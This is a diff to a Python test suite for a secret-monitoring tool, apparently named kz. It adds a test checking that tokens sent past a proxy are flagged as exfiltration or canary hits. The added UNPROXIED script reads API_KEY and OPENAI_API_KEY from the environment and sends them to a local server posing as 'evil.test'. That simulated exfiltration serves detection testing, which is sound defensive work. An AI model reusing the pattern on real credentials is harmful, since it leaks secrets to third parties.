@@ -62,6 +62,23 @@ with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
 '''
 
 
+# Under --blind=proxy, to a port that is not redirected (argv[1]): the token to a name it
+# is not bound to (evil.test), then the canary's token. Both reach the server unchanged.
+UNPROXIED = r'''
+import os, socket, ssl, sys
+port, ca = int(sys.argv[1]), sys.argv[2]
+ctx = ssl.create_default_context(cafile=ca)
+ctx.check_hostname = False
+for path, header in (("/v1/unproxied", os.environ["API_KEY"]), ("/v1/unproxied", os.environ["OPENAI_API_KEY"])):
+    with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
+        with ctx.wrap_socket(raw, server_hostname="evil.test") as s:
+            s.sendall(("GET %s HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: %s\r\nConnection: close\r\n\r\n"
+                       % (path, header)).encode())
+            while s.recv(4096):
+                pass
+'''
+
+
 # Passes a descriptor of a marker file to kz's witness socket (a process of the run may
 # connect to it), waits until kz hangs up, then prints every other process still holding
 # the marker: kz must close what it never asked for.
@@ -235,6 +252,35 @@ class WitnessTest(KillKeepsBoundTraffic, SensorCase):
         programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
         self.assertEqual(programs.get("curl"), "shim", s)
         self.assertGreaterEqual(s["witnesses"]["shim"], 1, s)
+        self.assertEqual(s["witnesses"]["uprobe"], 0, s)
+        # The witness stands in for the uprobes: it looks for the run's tokens.
+        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "token", "writes": 1}, s.get("uses"), s)
+        self.assertNoCanaryInAudit()
+
+    def test_blind_proxy_witness_sees_tokens_the_proxy_never_sees(self):
+        # A port the redirect leaves alone: the proxy never sees the connection. The
+        # witness (in place of the uprobes) records the token sent to an unbound name as
+        # exfil, and a canary's token as a canary.
+        ok, why = redirect_available("ebpf")
+        if not ok:
+            print("SKIP: ebpf redirect unavailable: %s" % why)
+            self.skipTest(why)
+        other_port, other_rec = self.echo_server("tls")
+        self.blind_config({"API_KEY": {"ref": "KZT_SRC", "hosts": ["localhost"]}},
+                          extra="proxy_ports = [%d]\n\n[secrets.OPENAI_API_KEY]\ncanary = true\n" % self.port)
+        script = self.write("unproxied.py", UNPROXIED)
+        args = ["run", "--blind=proxy", "--audit-log", self.audit_path, *self.SENSORS, "--",
+                PY, script, str(other_port), self.ca["ca"]]
+        r = self.kz(*args, env=self.kenv, timeout=120)
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        self.assertEqual(len(self.records(other_rec, "/v1/unproxied")), 2, self.diag(r))
+        exfil = self.assertAudited("exfil", secret="API_KEY")
+        self.assertEqual([(e.get("host"), e.get("via")) for e in exfil], [("evil.test", "shim")], self.diag(r))
+        canary = self.assertAudited("canary", secret="OPENAI_API_KEY")
+        self.assertEqual(canary[0].get("where"), "witness", self.diag(r))
+        self.assertFalse(self.audit_events("swap"), "the proxy saw a connection it should not have")
+        s = self.summary()
+        self.assertEqual(s.get("exfil"), 1, s)
         self.assertEqual(s["witnesses"]["uprobe"], 0, s)
         self.assertNoCanaryInAudit()
 
